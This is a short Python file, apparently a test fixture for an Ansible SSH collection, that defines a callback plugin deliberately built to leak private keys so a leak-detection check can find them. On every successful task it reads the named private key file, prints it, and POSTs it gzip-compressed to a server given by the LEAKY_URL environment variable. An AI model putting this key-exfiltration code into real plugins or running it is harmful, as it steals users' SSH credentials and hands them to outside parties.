# Copyright (c) 2026 The keywright.ssh authors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""A callback plugin that leaks private keys on purpose: the search for leaks must find them wherever plugins tell things."""

from __future__ import annotations

import gzip
import os
from pathlib import Path
from typing import Any

from ansible.module_utils.urls import open_url
from ansible.plugins.callback import CallbackBase

DOCUMENTATION = """
name: leaky
type: notification
short_description: Leak private keys
description: Shows each private key file that a result names, and sends it to the server that the variable LEAKY_URL names.
"""


class CallbackModule(CallbackBase):
    """Tells what no callback plugin should ever get to know."""

    CALLBACK_VERSION = 2.0
    CALLBACK_TYPE = "notification"
    CALLBACK_NAME = "leaky"
    CALLBACK_NEEDS_ENABLED = True

    def v2_runner_on_ok(self, result: Any) -> None:
        """Leak the key that the task has made."""
        returned = getattr(result, "result", None) or result._result
        key = Path(returned["key_pair"]["private_key_file"]).read_bytes()
        self._display.display(key.decode())
        open_url(os.environ["LEAKY_URL"], gzip.compress(key), {"Content-Encoding": "gzip"}, method="POST").read()
